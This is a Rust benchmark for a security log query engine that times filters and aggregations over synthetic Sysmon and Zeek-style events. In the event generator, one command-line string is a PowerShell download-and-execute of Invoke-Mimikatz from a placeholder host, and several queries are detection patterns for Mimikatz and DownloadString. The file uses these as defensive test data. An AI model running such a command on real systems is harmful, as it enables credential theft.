//! Filter and aggregation throughput over a synthetic in-memory set.
//!
//! `cargo bench -p taishi-query --bench query` prints events/s for typical
//! queries and the ratio to a plain scan that reads one field.

use std::hint::black_box;
use std::time::{Duration, Instant};

use chrono::{DateTime, FixedOffset};
use taishi_event::{Event, Value};
use taishi_query::{Query, QueryResult};

const N: usize = 200_000;

fn now() -> DateTime<FixedOffset> {
    DateTime::parse_from_rfc3339("2024-05-01T12:00:00Z").unwrap()
}

/// A mix of Sysmon process creations and Zeek-like connections with the
/// field counts real events have (~20).
fn events() -> Vec<Event> {
    let users = ["SYSTEM", "alice", "bob", "carol", "svc_backup"];
    let images = [
        r"C:\Windows\System32\cmd.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r"C:\Windows\explorer.exe",
    ];
    let mut rng: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    (0..N)
        .map(|i| {
            let r = next();
            let mut e = Event::with_capacity(22);
            let t = now() - chrono::Duration::seconds((i as i64 * 7) % 7200);
            e.timestamp = Some(t);
            if r % 2 == 0 {
                e.push("EventID", 1u32);
                e.push("Channel", "Microsoft-Windows-Sysmon/Operational");
                e.push("Computer", format!("WS-{:03}", r % 200));
                e.push("ProcessId", (r % 60_000) as i64);
                let img = images[(r >> 8) as usize % images.len()];
                e.push("Image", img);
                let cmd = if r % 97 == 0 {
                    format!("{img} -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/Invoke-Mimikatz.ps1')\"")
                } else {
                    format!("{img} /c echo build step {} && dir C:\\Users\\{}\\AppData", r % 1000, users[(r >> 16) as usize % 5])
                };
                e.push("CommandLine", cmd);
                e.push("ParentImage", r"C:\Windows\explorer.exe");
                e.push("User", format!(r"CORP\{}", users[(r >> 16) as usize % 5]));
                e.push("IntegrityLevel", "Medium");
                e.push("Hashes", "SHA256=4F2B3C0D9E8A7B6C5D4E3F2A1B0C9D8E7F6A5B4C3D2E1F0A9B8C7D6E5F4A3B2C");
                e.push("event.code", "1");
                e.push("event.category", Value::from(vec!["process"]));
                e.push("event.type", Value::from(vec!["start"]));
                e.push("host.name", format!("WS-{:03}", r % 200));
                e.push("user.name", users[(r >> 16) as usize % 5]);
                e.push("process.pid", (r % 60_000) as i64);
                e.push("process.executable", img);
            } else {
                let src = format!("10.{}.{}.{}", (r >> 8) % 4, (r >> 16) % 256, (r >> 24) % 254 + 1);
                let dst = format!("{}.{}.{}.{}", 93 + (r >> 32) % 4, (r >> 36) % 256, (r >> 40) % 256, (r >> 44) % 254 + 1);
                let port = [22u64, 53, 80, 443, 445, 3389, 8080][(r >> 48) as usize % 7];
                e.push("uid", format!("C{:x}", r));
                e.push("id.orig_h", src.as_str());
                e.push("id.orig_p", 1024 + r % 60_000);
                e.push("id.resp_h", dst.as_str());
                e.push("id.resp_p", port);
                e.push("proto", "tcp");
                e.push("duration", (r % 10_000) as f64 / 1000.0);
                e.push("orig_bytes", r % 100_000);
                e.push("resp_bytes", (r >> 20) % 1_000_000);
                e.push("conn_state", "SF");
                e.push("source.ip", src);
                e.push("source.port", 1024 + r % 60_000);
                e.push("destination.ip", dst);
                e.push("destination.port", port);
                e.push("network.transport", "tcp");
                e.push("event.category", Value::from(vec!["network"]));
                e.push("user.name", users[(r >> 16) as usize % 5]);
            }
            e
        })
        .collect()
}

fn time_it(mut f: impl FnMut() -> usize) -> (Duration, usize) {
    // Warm up once, then keep the best of three.
    let mut hits = f();
    let mut best = Duration::MAX;
    for _ in 0..3 {
        let t = Instant::now();
        hits = black_box(f());
        best = best.min(t.elapsed());
    }
    (best, hits)
}

fn rate(d: Duration) -> f64 {
    N as f64 / d.as_secs_f64()
}

fn main() {
    let evs = events();
    let (base, base_hits) = time_it(|| {
        evs.iter()
            .filter(|e| e.get("event.code").and_then(Value::as_str) == Some("1"))
            .count()
    });
    println!("{N} synthetic events (half Sysmon process creation, half Zeek conn)");
    println!(
        "{:<72} {:>12} {:>8} {:>7}",
        "query", "events/s", "hits", "ratio"
    );
    println!(
        "{:<72} {:>12.0} {:>8} {:>7.2}",
        "(plain scan: get(\"event.code\") == \"1\")",
        rate(base),
        base_hits,
        1.0
    );
    let filters = [
        "event.code:1",
        "event.category:process AND CommandLine:*Mimikatz*",
        "Image:*\\\\powershell.exe AND NOT user.name:SYSTEM",
        "source.ip:10.0.0.0/8 AND destination.port:[1 TO 1024]",
        "destination.port:(22 OR 445 OR 3389) AND orig_bytes>50000",
        "@timestamp>now-15m AND event.category:network",
        "mimikatz",
        "\"downloadstring\" OR \"invoke-expression\"",
        "user.name:svc_* host.name:WS-1??",
    ];
    for q in filters {
        let query = Query::parse_at(q, now()).unwrap();
        let (d, hits) = time_it(|| evs.iter().filter(|e| query.matches(e)).count());
        println!(
            "{:<72} {:>12.0} {:>8} {:>7.2}",
            q,
            rate(d),
            hits,
            d.as_secs_f64() / base.as_secs_f64()
        );
    }
    // Pipelines take owned events: the clone is measured separately.
    let (clone, _) = time_it(|| evs.iter().cloned().map(|e| black_box(e).len()).sum());
    println!(
        "{:<72} {:>12.0} {:>8} {:>7.2}",
        "(clone every event, the cost execute() pays here)",
        rate(clone),
        "",
        clone.as_secs_f64() / base.as_secs_f64()
    );
    for q in [
        "event.category:network | stats count() by destination.port",
        "* | stats count(), dc(host.name) by user.name",
        "event.category:network | stats sum(orig_bytes) as b, avg(duration) by id.orig_h | sort -b | head 10",
        "* | top 10 destination.ip",
        "* | timechart 5m count() by event.category",
        "event.category:process | sort -ProcessId | head 20",
    ] {
        let query = Query::parse_at(q, now()).unwrap();
        let (d, rows) = time_it(|| match query.execute(evs.iter().cloned()) {
            QueryResult::Events { events } => events.len(),
            QueryResult::Table(t) => t.rows.len(),
        });
        println!(
            "{:<72} {:>12.0} {:>8} {:>7.2}",
            q,
            rate(d),
            rows,
            d.as_secs_f64() / base.as_secs_f64()
        );
    }
}
